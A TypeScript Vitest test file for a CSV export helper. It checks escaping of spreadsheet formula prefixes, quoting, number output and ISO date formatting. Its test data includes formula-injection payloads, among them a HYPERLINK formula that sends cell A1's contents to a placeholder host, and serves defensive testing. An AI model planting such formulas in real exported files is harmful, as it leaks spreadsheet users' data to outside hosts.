import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvDate, csvDateTime, csvValue, toCsv } from './csv';

/** The cells of CSV text as a spreadsheet would read them (BOM dropped). */
function cells(csv: string): string[][] {
  return Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data;
}

describe('toCsv', () => {
  it('neutralises every formula prefix of text so a spreadsheet shows text', () => {
    const dangerous = [
      '=HYPERLINK("http://x/?"&A1,"S")',
      '+1+1',
      '-1+1',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
    ];
    const parsed = cells(
      toCsv(
        ['Name'],
        dangerous.map((name) => [name]),
      ),
    );
    expect(parsed.slice(1).map((row) => row[0])).toEqual(dangerous.map((name) => `'${name}`));
  });

  it('leaves ordinary cells as they are, accents and quotes included', () => {
    const csv = toCsv(['Name', 'E-mail'], [['José "Pepe" Núñez', 'jose@x.sg']]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(cells(csv)).toEqual([
      ['Name', 'E-mail'],
      ['José "Pepe" Núñez', 'jose@x.sg'],
    ]);
  });

  it('writes numbers as plain numbers, negative ones without a mark', () => {
    expect(toCsv(['Total', 'Qty', 'Delta'], [[240.5, 4, -5]])).toBe(
      '\uFEFFTotal,Qty,Delta\r\n240.5,4,-5',
    );
  });

  it('writes nothing for missing and non-finite cells', () => {
    expect(toCsv(['A', 'B', 'C'], [[null, undefined, Number.NaN]])).toBe('\uFEFFA,B,C\r\n,,');
  });

  it('marks a title that would start a formula as well', () => {
    expect(cells(toCsv(['=A1'], []))[0]).toEqual(["'=A1"]);
  });
});

describe('csvValue', () => {
  it('marks phone numbers and push ids, which Excel would read as formulas', () => {
    expect(csvValue('+65 9123 4567')).toBe("'+65 9123 4567");
    expect(csvValue('-Order0001abc')).toBe("'-Order0001abc");
    expect(csvValue('6591234567')).toBe('6591234567');
  });
});

describe('csvDate and csvDateTime', () => {
  it('write ISO 8601 in the local time zone', () => {
    const ms = new Date(2026, 10, 21, 9, 5, 7).getTime();
    expect(csvDate(ms)).toBe('2026-11-21');
    expect(csvDateTime(ms)).toBe('2026-11-21 09:05:07');
    expect(csvDate(new Date(999, 0, 2).getTime())).toBe('0999-01-02');
  });

  it('give an empty cell for no date', () => {
    expect(csvDate(undefined)).toBe('');
    expect(csvDateTime(null)).toBe('');
  });
});
